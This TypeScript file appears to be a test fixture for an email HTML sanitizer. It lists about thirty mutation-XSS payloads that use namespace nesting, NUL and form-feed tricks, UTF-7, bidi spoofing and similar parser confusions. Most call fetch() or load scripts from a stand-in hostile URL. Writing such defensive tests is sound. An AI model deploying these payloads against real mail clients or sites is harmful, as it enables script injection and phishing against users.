/** What a browser that reads it again would read as something else: nesting, foreign content, odd letters. */
import { hostileUrl as at, hostile } from './kit.ts'

const image = `<img src=x onerror="fetch('${at}/ran')">`
const escaped = image.replaceAll('<', '&lt;').replaceAll('"', '&quot;')

export const mutationMails = [
  hostile('mutation-form-table', `<form><math><mtext></form><form><mglyph><style></math>${image}</style>`),
  hostile('mutation-svg-title', `<svg></p><style><a title="</style>${image}">`),
  hostile('mutation-math-href', `<math><a xlink:href="javascript:fetch('${at}/ran')" href="${at}/m">x</a></math>`),
  hostile('mutation-maction', `<math><maction actiontype="statusline#${at}" xlink:href="${at}/m">x</maction></math>`),
  hostile('mutation-svg-desc', `<svg><desc><noscript>${image}</noscript></desc><title>${image}</title></svg>`),
  hostile(
    'mutation-svg-set',
    `<svg><set attributeName=onload to="fetch('${at}/ran')"/><a><rect width=9 height=9 /></a></svg>`,
  ),
  hostile(
    'mutation-svg-handler',
    `<svg><handler type="text/javascript" ev:event="load">fetch('${at}/ran')</handler></svg>`,
  ),
  hostile(
    'mutation-svg-fe-image',
    `<svg><filter><feImage href="${at}/f.png"/></filter><script href="${at}/x.js"/></svg>`,
  ),
  hostile('mutation-svg-case', `<sVg><sCript>fetch('${at}/ran')</Script><p/>${image}`),
  hostile('mutation-svg-font', `<svg><font color=red>${image}</font><font>${image}`),
  hostile('mutation-cdata-html', `<p><![CDATA[><img src=x onerror=fetch('${at}/ran')>]]></p>`),
  hostile('mutation-processing', `<?xml-stylesheet href="${at}/s.css"?><?x ${image}?>`),
  hostile('mutation-select', `<select><option><style></option></select>${image}</style></select>`),
  hostile('mutation-table-select', `<table><select><table>${image}</table></select><caption>${image}`),
  hostile('mutation-double-escape', `<p>${escaped}</p><p>&amp;lt;img src=x onerror=1&amp;gt;</p>`),
  hostile('mutation-entity-run', `&#60;img src=x onerror=fetch('${at}/ran')&#62;&LT;script&GT;1&NewLine;&lt/script>`),
  hostile('mutation-nul-tag', `<im\0g src=x onerror="fetch('${at}/ran')"><\0script>1</script><img src\0="${at}/a">`),
  hostile('mutation-form-feed', `<img\fsrc=x\fonerror=fetch('${at}/ran')><a\fhref\f=\f"java\fscript:1">x</a>`),
  hostile('mutation-slash-attribute', `<a/href="${at}/a"/onclick="fetch('${at}/ran')"/>x</a/onclick=1>`),
  hostile('mutation-equals-name', `<p =">${image}<p x="'>'"${image}">y</p>`),
  hostile('mutation-duplicate', `<a href="${at}/a" href="javascript:1" HREF="data:text/html,1">x</a>`),
  hostile('mutation-nobr', `<nobr><a href="${at}/a"><nobr><a href="${at}/b">x</nobr></a></nobr>`),
  hostile('mutation-adoption', `<a href="${at}/a"><p><a href="${at}/b"><table><a href="${at}/c">x</a></table></p></a>`),
  hostile('mutation-noscript-style', `<noscript><style></noscript>${image}</style></noscript>`),
  hostile('mutation-template-shadow', `<div><template shadowrootmode=open>${image}<slot></slot></template></div>`),
  hostile('mutation-listing', `<listing>\n${image}</listing><pre>\n\n${escaped}</pre>`),
  hostile('mutation-bidi', `<p>\u202e<a href="${at}/a">\u2066moc.elpmaxe.www\u2069</a>\u202c\u200f</p>`),
  hostile('mutation-half-surrogate', `<p title="\ud83d">\ud83d${image}&#xd83d;&#x110000;&#0;</p>`),
  hostile('mutation-utf7', `<meta charset=utf-7>+ADw-script+AD4-fetch('${at}')+ADw-/script+AD4-`),
  hostile('mutation-charset', `<meta http-equiv=content-type content="text/html; charset=x-user-defined">${image}`),
]
